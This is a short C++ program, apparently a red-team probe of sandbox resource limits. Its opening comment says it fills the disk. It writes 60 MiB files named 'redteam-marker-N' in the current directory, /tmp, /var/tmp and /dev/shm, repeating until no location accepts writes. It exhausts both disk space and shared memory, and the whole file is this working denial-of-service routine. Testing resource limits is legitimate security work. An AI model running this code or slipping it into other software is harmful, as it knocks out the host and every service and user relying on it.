// Fills the disk, file after file, everywhere it may write.
#include <fmt/core.h>

#include <fcntl.h>
#include <unistd.h>

#include <algorithm>
#include <string>

int main() {
    static char block[1 << 20];
    int writable = 3;
    for (int number = 0; writable > 0; ++number) {
        writable = 0;
        for (const char* folder : {".", "/tmp", "/dev/shm", "/var/tmp"}) {
            const std::string name = fmt::format("{}/redteam-marker-{}", folder, number);
            const int file = open(name.c_str(), O_WRONLY | O_CREAT, 0666);
            ssize_t written = 0;
            for (int i = 0; file >= 0 && i < 60; ++i) {
                written += std::max<ssize_t>(0, write(file, block, sizeof block));
            }
            writable += written > 0 ? 1 : 0;
            close(file);
        }
    }
}
